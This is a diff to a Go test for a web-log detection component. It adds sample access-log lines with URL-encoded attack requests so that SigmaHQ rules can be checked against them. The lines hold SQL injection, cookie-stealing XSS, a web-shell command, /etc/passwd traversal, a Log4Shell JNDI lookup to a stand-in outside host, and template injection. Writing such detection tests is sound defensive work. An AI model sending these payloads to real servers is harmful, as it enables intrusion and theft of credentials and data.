@@ -53,7 +53,20 @@ func webReferenceSamples(t *testing.T, data string) []refEvent {
 	}
 	combined, iis := webProbes(t)
 	out = appendWebEvents(t, out, "web/probes/combined.log", combined)
-	return appendWebEvents(t, out, "web/probes/iis.log", iis)
+	out = appendWebEvents(t, out, "web/probes/iis.log", iis)
+	return appendWebEvents(t, out, "web/probes/encoded.log", encodedProbes)
+}
+
+// encodedProbes are attacks as clients send them, encoded ('+' for a
+// space, %XX), where SigmaHQ's rules mostly give the text decoded or with
+// %20: what the beat's decoded query parameters change (referenceDiffs).
+var encodedProbes = []string{
+	`203.0.113.8 - - [28/Nov/2026:01:00:00 +0000] "GET /item.php?id=1+UNION+SELECT+password+FROM+users HTTP/1.1" 200 512 "-" "sqlmap/1.7"`,
+	`203.0.113.8 - - [28/Nov/2026:01:00:01 +0000] "GET /search.php?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
+	`203.0.113.8 - - [28/Nov/2026:01:00:02 +0000] "GET /uploads/cmd.aspx?c=who%61mi HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
+	`203.0.113.8 - - [28/Nov/2026:01:00:03 +0000] "GET /index.php?page=..%2F..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
+	`203.0.113.8 - - [28/Nov/2026:01:00:04 +0000] "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fa%7D HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
+	`203.0.113.8 - - [28/Nov/2026:01:00:05 +0000] "GET /page.jsp?name=%7B%7B7*7%7D%7D HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
 }
 
 // appendWebEvents appends the events of one log's lines, keyed by line
